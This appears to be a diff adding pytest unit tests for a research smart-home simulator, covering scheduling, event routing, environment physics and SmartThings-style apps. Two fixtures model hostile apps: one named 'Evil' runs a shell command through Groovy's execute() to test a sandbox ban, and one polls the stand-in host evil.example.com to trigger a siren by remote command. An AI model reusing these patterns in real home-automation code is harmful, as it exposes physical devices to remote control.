@@ -1,0 +1,416 @@
+"""Unit tests for the smart-home runtime simulator."""
+
+import pytest
+
+from repro.runtime import Event, EventBus, Environment, SmartHome, VirtualClock
+from repro.runtime.sandbox import SandboxViolation, check_method_allowed
+from repro.runtime.scheduler import Scheduler
+
+
+# ----------------------------------------------------------------------
+# Clock
+
+def test_clock_advances():
+    clock = VirtualClock()
+    clock.advance(10)
+    assert clock.now == 10
+    clock.advance_to(25)
+    assert clock.now == 25
+
+
+def test_clock_rejects_backwards():
+    clock = VirtualClock(100)
+    with pytest.raises(ValueError):
+        clock.advance_to(50)
+
+
+def test_time_of_day_wraps():
+    clock = VirtualClock(86400 + 3600)
+    assert clock.time_of_day() == 3600
+
+
+# ----------------------------------------------------------------------
+# Scheduler
+
+def test_run_in_executes_once():
+    clock = VirtualClock()
+    sched = Scheduler(clock)
+    fired = []
+    sched.run_in(60, lambda: fired.append(clock.now))
+    sched.run_until(200)
+    assert fired == [60]
+    assert clock.now == 200
+
+
+def test_run_in_overwrite_semantics():
+    clock = VirtualClock()
+    sched = Scheduler(clock)
+    fired = []
+    sched.run_in(60, lambda: fired.append("first"), owner="app", name="job")
+    sched.run_in(90, lambda: fired.append("second"), owner="app", name="job")
+    sched.run_until(200)
+    assert fired == ["second"]  # SmartThings runIn overwrites by default
+
+
+def test_run_in_no_overwrite():
+    clock = VirtualClock()
+    sched = Scheduler(clock)
+    fired = []
+    sched.run_in(60, lambda: fired.append(1), owner="app", name="job")
+    sched.run_in(
+        90, lambda: fired.append(2), owner="app", name="job", overwrite=False
+    )
+    sched.run_until(200)
+    assert fired == [1, 2]
+
+
+def test_run_every_repeats():
+    clock = VirtualClock()
+    sched = Scheduler(clock)
+    fired = []
+    sched.run_every(100, lambda: fired.append(clock.now))
+    sched.run_until(350)
+    assert fired == [100, 200, 300]
+
+
+def test_schedule_daily():
+    clock = VirtualClock()
+    sched = Scheduler(clock)
+    fired = []
+    sched.schedule_daily(3600, lambda: fired.append(clock.now))
+    sched.run_until(2 * 86400)
+    assert fired == [3600, 3600 + 86400]
+
+
+def test_cancel_owner():
+    clock = VirtualClock()
+    sched = Scheduler(clock)
+    fired = []
+    sched.run_in(10, lambda: fired.append("a"), owner="appA")
+    sched.run_in(10, lambda: fired.append("b"), owner="appB")
+    sched.cancel_owner("appA")
+    sched.run_until(20)
+    assert fired == ["b"]
+
+
+# ----------------------------------------------------------------------
+# Event bus
+
+def test_bus_matches_subject_and_attribute():
+    bus = EventBus()
+    hits = []
+    bus.subscribe("dev1", "switch", hits.append, owner="app")
+    handlers = bus.publish(Event("dev1", "switch", "on", 0.0))
+    assert len(handlers) == 1
+    handlers = bus.publish(Event("dev1", "motion", "active", 0.0))
+    assert handlers == []
+    handlers = bus.publish(Event("dev2", "switch", "on", 0.0))
+    assert handlers == []
+
+
+def test_bus_value_filter():
+    bus = EventBus()
+    bus.subscribe("dev1", "switch", lambda e: None, owner="app",
+                  value_filter="on")
+    assert bus.publish(Event("dev1", "switch", "on", 0.0))
+    assert not bus.publish(Event("dev1", "switch", "off", 0.0))
+
+
+def test_bus_unsubscribe_owner():
+    bus = EventBus()
+    bus.subscribe("dev1", "switch", lambda e: None, owner="appA")
+    bus.subscribe("dev1", "switch", lambda e: None, owner="appB")
+    bus.unsubscribe_owner("appA")
+    assert len(bus.publish(Event("dev1", "switch", "on", 0.0))) == 1
+
+
+# ----------------------------------------------------------------------
+# Environment
+
+def test_instant_channel_contribution():
+    env = Environment()
+    base = env.read("illuminance")
+    env.apply_command_effects("lamp", {"illuminance": 400.0})
+    assert env.read("illuminance") == base + 400.0
+    env.apply_command_effects("lamp", {"illuminance": -400.0})
+    assert env.read("illuminance") == base
+
+
+def test_integrating_channel_rate():
+    env = Environment()
+    start = env.read("temperature")
+    env.apply_command_effects("heater", {"temperature": 0.8})
+    env.step(600)  # 10 minutes at +0.8/minute
+    assert env.read("temperature") == pytest.approx(start + 8.0)
+    env.apply_command_effects("heater", {"temperature": -0.8})
+    env.step(600)
+    assert env.read("temperature") == pytest.approx(start + 8.0)  # rate gone
+
+
+def test_channel_clamping():
+    env = Environment()
+    env.apply_command_effects("x", {"temperature": 1000.0})
+    env.step(60000)
+    assert env.read("temperature") <= 150  # channel upper bound
+
+
+# ----------------------------------------------------------------------
+# SmartHome devices and events
+
+def test_device_command_changes_state_and_emits_event():
+    home = SmartHome()
+    home.add_device("Lamp", "light")
+    home.device("Lamp").execute("on")
+    assert home.device("Lamp").current_value("switch") == "on"
+    assert any(e.name == "switch" and e.value == "on"
+               for e in home._event_queue)
+
+
+def test_unsupported_command_raises():
+    home = SmartHome()
+    home.add_device("Lamp", "light")
+    with pytest.raises(ValueError):
+        home.device("Lamp").execute("unlock")
+
+
+def test_install_app_and_trigger():
+    home = SmartHome()
+    home.add_device("Door", "contactSensor")
+    home.add_device("Hall light", "light")
+    source = '''
+definition(name: "T")
+input "c1", "capability.contactSensor"
+input "l1", "capability.switch"
+def installed() { subscribe(c1, "contact.open", h) }
+def h(evt) { l1.on() }
+'''
+    home.install_app(source, "T", bindings={"c1": "Door", "l1": "Hall light"})
+    home.trigger("Door", "contact", "open")
+    assert home.device("Hall light").current_value("switch") == "on"
+    assert home.commands[-1].command == "on"
+
+
+def test_value_filtered_subscription_runtime():
+    home = SmartHome()
+    home.add_device("Door", "contactSensor")
+    home.add_device("Lamp", "light", switch="on")
+    source = '''
+definition(name: "T")
+input "c1", "capability.contactSensor"
+input "l1", "capability.switch"
+def installed() { subscribe(c1, "contact.closed", h) }
+def h(evt) { l1.off() }
+'''
+    home.install_app(source, "T", bindings={"c1": "Door", "l1": "Lamp"})
+    home.trigger("Door", "contact", "open")
+    assert home.device("Lamp").current_value("switch") == "on"  # filtered out
+    home.trigger("Door", "contact", "closed")
+    assert home.device("Lamp").current_value("switch") == "off"
+
+
+def test_runin_delayed_action():
+    home = SmartHome()
+    home.add_device("Door", "contactSensor")
+    home.add_device("Lamp", "light")
+    source = '''
+definition(name: "T")
+input "c1", "capability.contactSensor"
+input "l1", "capability.switch"
+def installed() { subscribe(c1, "contact.open", h) }
+def h(evt) {
+    l1.on()
+    runIn(300, lampOff)
+}
+def lampOff() { l1.off() }
+'''
+    home.install_app(source, "T", bindings={"c1": "Door", "l1": "Lamp"})
+    home.trigger("Door", "contact", "open")
+    assert home.device("Lamp").current_value("switch") == "on"
+    home.advance(301)
+    assert home.device("Lamp").current_value("switch") == "off"
+
+
+def test_chained_execution_across_apps():
+    home = SmartHome()
+    home.add_device("Button", "button")
+    home.add_device("TV", "tv")
+    home.add_device("Window", "windowOpener")
+    remote = '''
+definition(name: "Remote")
+input "b1", "capability.button"
+input "tv1", "capability.switch"
+def installed() { subscribe(b1, "button.pushed", h) }
+def h(evt) { tv1.on() }
+'''
+    opener = '''
+definition(name: "Opener")
+input "tv2", "capability.switch"
+input "w1", "capability.switch"
+def installed() { subscribe(tv2, "switch.on", h) }
+def h(evt) { w1.on() }
+'''
+    home.install_app(remote, "Remote", bindings={"b1": "Button", "tv1": "TV"})
+    home.install_app(opener, "Opener", bindings={"tv2": "TV", "w1": "Window"})
+    home.trigger("Button", "button", "pushed")
+    assert home.device("TV").current_value("switch") == "on"
+    assert home.device("Window").current_value("switch") == "on"
+
+
+def test_actuator_race_nondeterminism_across_seeds():
+    source_on = '''
+definition(name: "OnApp")
+input "c1", "capability.contactSensor"
+input "w1", "capability.switch"
+def installed() { subscribe(c1, "contact.open", h) }
+def h(evt) { w1.on() }
+'''
+    source_off = '''
+definition(name: "OffApp")
+input "c2", "capability.contactSensor"
+input "w2", "capability.switch"
+def installed() { subscribe(c2, "contact.open", h) }
+def h(evt) { w2.off() }
+'''
+    outcomes = set()
+    for seed in range(12):
+        home = SmartHome(seed=seed)
+        home.add_device("Door", "contactSensor")
+        home.add_device("Window", "windowOpener")
+        home.install_app(source_on, "OnApp",
+                         bindings={"c1": "Door", "w1": "Window"})
+        home.install_app(source_off, "OffApp",
+                         bindings={"c2": "Door", "w2": "Window"})
+        home.trigger("Door", "contact", "open")
+        outcomes.add(home.device("Window").current_value("switch"))
+    # The race resolves differently across interleavings (paper §III-A).
+    assert outcomes == {"on", "off"}
+
+
+def test_mode_change_event():
+    home = SmartHome()
+    home.add_device("Lock", "doorLock")
+    source = '''
+definition(name: "ModeWatcher")
+input "lock1", "capability.lock"
+def installed() { subscribe(location, "mode", h) }
+def h(evt) {
+    if (evt.value == "Home") lock1.unlock()
+}
+'''
+    home.install_app(source, "ModeWatcher", bindings={"lock1": "Lock"})
+    home.set_mode("Away")
+    assert home.device("Lock").current_value("lock") == "locked"
+    home.set_mode("Home")
+    assert home.device("Lock").current_value("lock") == "unlocked"
+
+
+def test_environment_feedback_to_sensors():
+    home = SmartHome()
+    home.add_device("Heater", "heater")
+    home.add_device("Thermo", "temperatureSensor")
+    for device in home.devices.values():
+        device.sample_channels(home.environment)
+    before = home.device("Thermo").current_value("temperature")
+    home.device("Heater").execute("on")
+    home.environment.apply_command_effects(
+        home.device("Heater").id, {"temperature": 0.8, "power": 1500.0}
+    )
+    home.advance(1800)  # 30 minutes of heating
+    after = home.device("Thermo").current_value("temperature")
+    assert after > before
+
+
+def test_scheduled_app_runs():
+    home = SmartHome()
+    home.add_device("Coffee", "coffeeMaker")
+    source = '''
+definition(name: "MorningCoffee")
+input "coffee1", "capability.switch"
+input "startTime", "time"
+def installed() { schedule(startTime, brew) }
+def brew() { coffee1.on() }
+'''
+    home.install_app(source, "MorningCoffee",
+                     bindings={"coffee1": "Coffee"},
+                     settings={"startTime": 21600})
+    home.advance(21700)
+    assert home.device("Coffee").current_value("switch") == "on"
+
+
+def test_state_persists_between_handler_runs():
+    home = SmartHome()
+    home.add_device("Door", "contactSensor")
+    source = '''
+definition(name: "Counter")
+input "c1", "capability.contactSensor"
+def installed() { subscribe(c1, "contact.open", h) }
+def h(evt) {
+    if (!state.count) { state.count = 0 }
+    state.count = state.count + 1
+    sendPush("opened ${state.count} times")
+}
+'''
+    home.install_app(source, "Counter", bindings={"c1": "Door"})
+    home.trigger("Door", "contact", "open")
+    home.trigger("Door", "contact", "closed")
+    home.trigger("Door", "contact", "open")
+    assert home.messages[-1].body == "opened 2 times"
+
+
+def test_sandbox_bans_dynamic_methods():
+    with pytest.raises(SandboxViolation):
+        check_method_allowed("evaluate")
+    check_method_allowed("subscribe")  # fine
+
+
+def test_sandbox_enforced_in_interpreter():
+    home = SmartHome()
+    home.add_device("Door", "contactSensor")
+    source = '''
+definition(name: "Evil")
+input "c1", "capability.contactSensor"
+def installed() { subscribe(c1, "contact.open", h) }
+def h(evt) {
+    "ls".execute()
+}
+'''
+    home.install_app(source, "Evil", bindings={"c1": "Door"})
+    home.trigger("Door", "contact", "open")
+    assert any("banned" in error for error in home.errors)
+
+
+def test_uninstall_removes_subscriptions_and_jobs():
+    home = SmartHome()
+    home.add_device("Door", "contactSensor")
+    home.add_device("Lamp", "light")
+    source = '''
+definition(name: "T")
+input "c1", "capability.contactSensor"
+input "l1", "capability.switch"
+def installed() { subscribe(c1, "contact.open", h) }
+def h(evt) { l1.on() }
+'''
+    home.install_app(source, "T", bindings={"c1": "Door", "l1": "Lamp"})
+    home.uninstall_app("T")
+    home.trigger("Door", "contact", "open")
+    assert home.device("Lamp").current_value("switch") == "off"
+
+
+def test_http_stub_roundtrip():
+    home = SmartHome()
+    home.add_device("Siren", "siren")
+    home.stub_http("http://evil.example.com/cmd", "siren")
+    source = '''
+definition(name: "RemoteControlled")
+input "alarm1", "capability.alarm"
+def installed() { runEvery1Hour(poll) }
+def poll() {
+    httpGet("http://evil.example.com/cmd") { resp ->
+        if (resp.data == "siren") alarm1.siren()
+    }
+}
+'''
+    home.install_app(source, "RemoteControlled", bindings={"alarm1": "Siren"})
+    home.advance(3700)
+    assert home.device("Siren").current_value("alarm") == "siren"
+    assert any(m.channel == "http" for m in home.messages)
